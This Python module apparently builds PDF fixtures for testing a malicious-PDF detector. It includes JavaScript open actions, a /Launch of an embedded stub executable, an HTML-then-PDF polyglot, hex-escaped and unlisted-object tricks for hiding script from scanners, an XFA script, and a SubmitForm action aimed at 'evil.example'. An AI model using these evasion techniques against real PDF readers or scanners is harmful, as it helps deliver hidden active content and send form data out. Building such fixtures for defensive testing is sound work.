"""PDFs with active content, built in code: pypdf's writer where it can say it, raw bytes (with true
cross-reference offsets) where a writer would tidy the trick away."""

import io
import zlib

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def raw_pdf(*objects: bytes, prefix: bytes = b"", unlisted: tuple[int, ...] = ()) -> bytes:
    """Objects 1..n (1 is the catalog), a classic cross-reference table and trailer. Objects named in
    ``unlisted`` are in the bytes but marked free in the table (no reader should need them)."""
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for number, offset in enumerate(offsets, start=1):
        out += b"0000000000 00001 f \n" if number in unlisted else b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def raw_pdf_with_object_stream(plain: list[bytes], packed: list[bytes], *, unlisted: tuple[int, ...] = ()) -> bytes:
    """Objects 1..len(plain) written plainly, the ``packed`` ones (numbered after them) in one compressed
    object stream, and a cross-reference stream; packed objects named in ``unlisted`` are in the object
    stream but not in the cross-reference stream."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(plain, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    first_packed = len(plain) + 1
    header, payload = [], bytearray()
    for index, body in enumerate(packed):
        header.append(b"%d %d" % (first_packed + index, len(payload)))
        payload += body + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    data = zlib.compress(header_bytes + bytes(payload))
    stream_number = first_packed + len(packed)
    stream_offset = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream_number, len(packed), len(header_bytes), len(data)) + data + b"\nendstream\nendobj\n")
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows += [b"\x00" + b"\x00" * 6 if first_packed + index in unlisted
             else b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
             for index in range(len(packed))]
    rows.append(b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00\x00")
    xref_offset = len(out)
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % (stream_number + 1, stream_number + 2, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _page_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def open_action_javascript() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('pwned');"),
    })
    return _written(writer)


def launch_with_embedded_program() -> bytes:
    writer = _page_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("invoice.exe"),
    })
    return _written(writer)


def embedded_file_only() -> bytes:
    writer = _page_writer()
    writer.add_attachment("notes.txt", b"just text")
    return _written(writer)


def html_then_pdf() -> bytes:
    return b"<html><body><script>alert(document.cookie)</script></body></html>\n" + raw_pdf(
        CATALOG % b"", PAGES, PAGE % b"")


def hex_escaped_javascript() -> bytes:
    return raw_pdf(CATALOG % b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", PAGES, PAGE % b"")


def javascript_in_object_stream(*, listed: bool = True) -> bytes:
    """The action (object 4) sits in a compressed object stream; ``listed=False`` leaves it out of the
    cross-reference stream and refers to it from nowhere, for readers that rebuild the table."""
    catalog = CATALOG % (b"/OpenAction 4 0 R" if listed else b"")
    return raw_pdf_with_object_stream([catalog, PAGES, PAGE % b""],
                                      [b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
                                      unlisted=() if listed else (4,))


def javascript_in_unlisted_object() -> bytes:
    """Object 4 is in the bytes but the cross-reference table marks it free."""
    return raw_pdf(CATALOG % b"", PAGES, PAGE % b"", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", unlisted=(4,))


def link_to(uri: str) -> bytes:
    writer = _page_writer()
    writer.add_annotation(0, Link(rect=(50, 700, 300, 720), url=uri))
    return _written(writer)


def xfa_form() -> bytes:
    writer = _page_writer()
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa),
    })
    return _written(writer)


def submit_form() -> bytes:
    writer = _page_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/"),
        NameObject("/Flags"): NumberObject(4),
    })
    return _written(writer)


def reference_chain(length: int) -> bytes:
    """A catalog that leads through ``length`` objects, each referring to the next."""
    chain = [b"<< /Next %d 0 R >>" % (number + 1) for number in range(4, 4 + length)]
    return raw_pdf(CATALOG % b"/Next 4 0 R", PAGES, PAGE % b"", *chain)


def nested_arrays(depth: int) -> bytes:
    return raw_pdf(CATALOG % (b"/Deep " + b"[" * depth + b"]" * depth), PAGES, PAGE % b"")
